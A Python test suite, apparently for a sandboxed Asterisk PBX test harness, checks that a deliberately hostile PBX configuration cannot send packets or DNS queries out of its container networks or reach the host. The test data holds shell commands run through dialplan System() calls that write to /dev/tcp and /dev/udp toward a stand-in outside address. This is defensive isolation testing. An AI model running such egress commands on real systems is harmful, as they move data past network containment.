"""A PBX that sends everybody elsewhere, and goes there itself, reaches its run's two networks and nothing else."""

from __future__ import annotations

import asyncio
import contextlib
import socket
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from capture import Capture, capturing
from playing.conftest import events_of, on_a_clock
from playing.laboratory import Laboratory, laboratory, with_dialplan
from ringproof.containers.engine import engine
from ringproof.containers.errors import BrokenError
from ringproof.containers.run import RunEnvironment, open_run
from ringproof.core.speed import FASTEST
from ringproof.events.model import NameAsked
from ringproof.phones.container import phones_of
from ringproof.playing.context import PbxFaultError
from testcontainers.core.container import ExecConfig

pytestmark = pytest.mark.pbx

ELSEWHERE = "198.51.100.77"
NAME = "pbx.sealedtest.example"
UNIQUE = "sealedtest"
"""In every name, so that a question for one is known wherever it goes."""
QUESTION = (
    r"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x0asealedtest\\x07example\\x00\\x00\\x01\\x00\\x01"
)
DIALLED = "7001"
BIND = "bind=0.0.0.0:5060\n"
NO_WAY = 42
DIAL = (
    'said=$( {{ echo x >/dev/tcp/{address}/{port}; }} 2>&1 ); case "$said" in *unreachable*|*"No route"*) exit '
    f"{NO_WAY};; esac; exit 1"
)
"""Its exit code says what became of it: what a command prints at once, Docker 20.10 may lose."""


@dataclass(frozen=True)
class Hostile:
    """What is changed in a rendered office, and what its number 7001 does."""

    name: str
    does: str = "Dial(PJSIP/101,5)"
    modules: tuple[str, ...] = ()
    files: dict[str, tuple[str, str]] = field(default_factory=dict)


def shell(command: str) -> str:
    """Have the PBX run a command of bash, as System() does."""
    return f"System(bash -c '{command}')"


HOSTILE = (
    Hostile(
        "external addresses",
        modules=("res_pjsip_nat",),
        files={"pjsip.conf": (BIND, f"external_signaling_address={ELSEWHERE}\nexternal_media_address={ELSEWHERE}\n")},
    ),
    Hostile("media address", files={"pjsip.conf": ("type=endpoint\n", f"media_address={ELSEWHERE}\n")}),
    Hostile("302", f"Transfer(PJSIP/sip:9@{ELSEWHERE})", ("app_transfer",)),
    Hostile("a call to an address", f"Dial(PJSIP/trunk/sip:9@{ELSEWHERE},5)"),
    Hostile("a call to a name", f"Dial(PJSIP/trunk/sip:9@{NAME},5)"),
    Hostile(
        "a registration at an address",
        modules=("res_pjsip_outbound_registration",),
        files={
            "pjsip.conf": (
                BIND,
                f"\n[away]\ntype=registration\nserver_uri=sip:{ELSEWHERE}\nclient_uri=sip:office@{ELSEWHERE}\n",
            )
        },
    ),
    Hostile(
        "a registration at a name",
        modules=("res_pjsip_outbound_registration",),
        files={
            "pjsip.conf": (BIND, f"\n[away]\ntype=registration\nserver_uri=sip:{NAME}\nclient_uri=sip:office@{NAME}\n")
        },
    ),
    Hostile("STUN at an address", files={"rtp.conf": ("[general]\n", f"stunaddr={ELSEWHERE}:3478\n")}),
    Hostile("STUN at a name", files={"rtp.conf": ("[general]\n", f"stunaddr={NAME}\n")}),
    Hostile("FastAGI", f"AGI(agi://{ELSEWHERE}/script)", ("res_speech", "res_agi")),
    Hostile("a program's datagram", shell(f"echo out >/dev/udp/{ELSEWHERE}/5060"), ("app_system",)),
    Hostile("a program's connection", shell(f"echo out >/dev/tcp/{ELSEWHERE}/80"), ("app_system",)),
    Hostile("a program's question", shell(f"getent hosts {NAME}"), ("app_system",)),
    Hostile("a question to the engine", shell(f'printf "{QUESTION}" >/dev/udp/127.0.0.11/53'), ("app_system",)),
)


@pytest.fixture(scope="module")
def environment() -> Iterator[RunEnvironment]:
    """A run of its own."""
    with open_run("ringproof-asterisk:22") as run:
        yield run


def play_hostile(hostile: Hostile, environment: RunEnvironment, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Boot the PBX, call its number, and let some time pass; whatever becomes of it, it is watched."""
    lines = f"exten => {DIALLED},1,NoOp()\n same => n,{hostile.does}\n same => n,Hangup()\n"
    with monkeypatch.context() as patch:
        with_dialplan(patch, lines, *hostile.modules, files=hostile.files)

        async def act() -> None:
            async with laboratory(environment, folder, FASTEST) as lab:
                lab.call("anna", DIALLED)
                await lab.passes(30)

        folder.mkdir()
        with contextlib.suppress(BrokenError, PbxFaultError):
            on_a_clock(act())


def host_state() -> str:
    """Return the routes, the firewall and the resolver of this machine."""
    commands = (["ip", "route"], ["ip", "rule"], ["iptables", "-S"], ["iptables", "-t", "nat", "-S"])
    said = [subprocess.run(command, capture_output=True, text=True, check=True).stdout for command in commands]
    return "\n".join([*said, Path("/etc/resolv.conf").read_text("utf-8")])


@pytest.mark.alone
def test_no_packet_of_a_hostile_pbx_leaves_the_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """On no interface of this machine; its routes, firewall and resolver are as before when the run is over."""
    before = host_state()
    with open_run("ringproof-asterisk:22") as environment:
        subnets = environment.subnets.split(",")
        with capturing(subnets, [UNIQUE], ELSEWHERE) as capture:
            for number, hostile in enumerate(HOSTILE):
                play_hostile(hostile, environment, tmp_path / str(number), monkeypatch)
                assert not capture.leaks, f"{hostile.name}: {', '.join(map(str, capture.leaks[:5]))}"
        assert capture.inside > 100 * len(HOSTILE) / 2, "the capture has seen the calls themselves"
    assert host_state() == before


@pytest.mark.alone
def test_nor_does_a_question_where_the_host_asks_a_resolver_of_its_own(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Docker before 23 asks it from the host's own network, for containers of an internal network, too."""
    resolv_conf = Path("/etc/resolv.conf")
    kept = resolv_conf.read_bytes()
    asked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with open_run("ringproof-asterisk:22") as environment, asked:
        asked.bind(("127.0.0.53", 53))
        asked.setblocking(False)  # noqa: FBT003 - the socket module takes no keyword
        try:
            resolv_conf.write_text("nameserver 127.0.0.53\n", "utf-8")
            with capturing(environment.subnets.split(","), [UNIQUE]) as capture:
                for number, hostile in enumerate(each for each in HOSTILE if "question" in each.name):
                    play_hostile(hostile, environment, tmp_path / str(number), monkeypatch)
        finally:
            resolv_conf.write_bytes(kept)
        assert not capture.leaks
        with pytest.raises(BlockingIOError):
            asked.recv(4096)
        names = [event.name for event in events_of(tmp_path / "0") if isinstance(event, NameAsked)]
        assert NAME in names, "the run's own name server was asked instead"


def test_the_capture_sees_what_an_unsealed_container_sends(environment: RunEnvironment) -> None:
    """Its green means something: the firewall drops such a packet, but the bridge has carried it."""
    send = f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'out', ('{ELSEWHERE}', 5060))"
    with capturing(environment.subnets.split(","), [UNIQUE]) as capture:
        engine().containers.run(
            environment.phones_image, ["python3", "-c", send], network=environment.office_network, remove=True
        )
        _wait_for(capture)
    assert {str(packet.target) for packet in capture.leaks} == {ELSEWHERE}


def _wait_for(capture: Capture) -> None:
    deadline = time.monotonic() + 5
    while not capture.leaks and time.monotonic() < deadline:
        time.sleep(0.05)  # a packet wakes nobody


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A server of the host that listens on all addresses."""
    with socket.create_server(("", 0)) as server:
        server.settimeout(0.1)
        yield server


def test_neither_pbx_nor_phones_reach_a_process_of_the_host(
    environment: RunEnvironment, listener: socket.socket, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Refused at once, at each address that the host has; FastAGI at the host fails, too."""
    port = listener.getsockname()[1]
    said = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=True).stdout.split()
    addresses = [*environment.gateways.split(","), *(address for address in said if ":" not in address)]
    for address in addresses:
        with phones_of(environment).new_socket("tcp") as link:
            link.settimeout(5)
            began = time.monotonic()
            with pytest.raises(OSError, match=r"unreachable|No route"):
                link.connect((address, port))
            assert time.monotonic() - began < 1
    gateway = environment.gateways.split(",")[0]
    lines = f"exten => {DIALLED},1,Answer()\n same => n,AGI(agi://{gateway}:{port}/x)\n same => n,Wait(60)\n"
    with_dialplan(monkeypatch, lines, "res_speech", "res_agi")

    async def look(lab: Laboratory) -> None:
        lab.call("anna", DIALLED)
        await lab.happens(
            lambda: "AGI" in (tmp_path / "pbx" / "full.log").read_text("utf-8"), "the PBX runs the script"
        )
        await lab.passes(5)
        pbx = engine().containers.get(lab.setup.pbx.name)
        for address in addresses:
            dialled = await asyncio.to_thread(pbx.exec_run, ["bash", "-c", DIAL.format(address=address, port=port)])
            assert dialled.exit_code == NO_WAY, dialled

    async def act() -> None:
        async with laboratory(environment, tmp_path, FASTEST) as lab:
            await look(lab)

    on_a_clock(act())
    with pytest.raises(TimeoutError):
        listener.accept()


def test_no_container_has_an_ipv6_address(environment: RunEnvironment, tmp_path: Path) -> None:
    """Podman gives one to each link; Docker does not, so what is looked at is that we ask for none."""
    engine_asked = phones_of(environment).get_wrapped_container().attrs["HostConfig"]["Sysctls"]
    assert engine_asked["net.ipv6.conf.all.disable_ipv6"] == "1"

    async def act() -> None:
        async with laboratory(environment, tmp_path, FASTEST) as lab:
            pbx = engine().containers.get(lab.setup.pbx.name)
            network = engine().containers.get(pbx.attrs["HostConfig"]["NetworkMode"].removeprefix("container:"))
            assert network.attrs["HostConfig"]["Sysctls"]["net.ipv6.conf.all.disable_ipv6"] == "1"
            told = await asyncio.to_thread(pbx.exec_run, ["cat", "/proc/net/if_inet6"])
            assert isinstance(told.output, bytes)
            assert [line.split()[-1] for line in told.output.decode().splitlines()] in ([], ["lo"])

    on_a_clock(act())


def test_asterisk_and_phones_have_no_rights(environment: RunEnvironment, tmp_path: Path) -> None:
    """No capability, none that a program could give them, and they are not root."""
    words = ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")

    async def act() -> None:
        async with laboratory(environment, tmp_path, FASTEST) as lab:
            pbx = engine().containers.get(lab.setup.pbx.name)
            find = 'for p in /proc/[0-9]*; do [ "$(cat $p/comm)" = asterisk ] && cat $p/status; done; true'
            told = await asyncio.to_thread(pbx.exec_run, ["bash", "-c", find])
            assert isinstance(told.output, bytes)
            statuses = [told.output.decode()]
            phones = phones_of(environment)
            for pid in ("1", str(lab.phone("101").phone.pid)):
                done = await asyncio.to_thread(
                    phones.exec, ExecConfig(["cat", f"/proc/{pid}/status"], user=phones.user)
                )
                statuses.append(done.output.decode())
            for status in statuses:
                fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
                assert [int(fields[word], 16) for word in words] == [0] * len(words), status
                assert fields["NoNewPrivs"] == "1"
                assert fields["Uid"].split()[0] != "0"
            for container in (pbx, phones.get_wrapped_container()):
                limits = container.attrs["HostConfig"]
                assert limits["PidsLimit"]
                assert limits["Memory"]
                assert limits["LogConfig"]["Config"]["max-size"]
            mounted = {mount["Source"] for mount in pbx.attrs["Mounts"]}
            assert environment.folder not in mounted
            assert not [source for source in mounted if "phones-" in source and not source.endswith("resolv.conf")]

    on_a_clock(act())
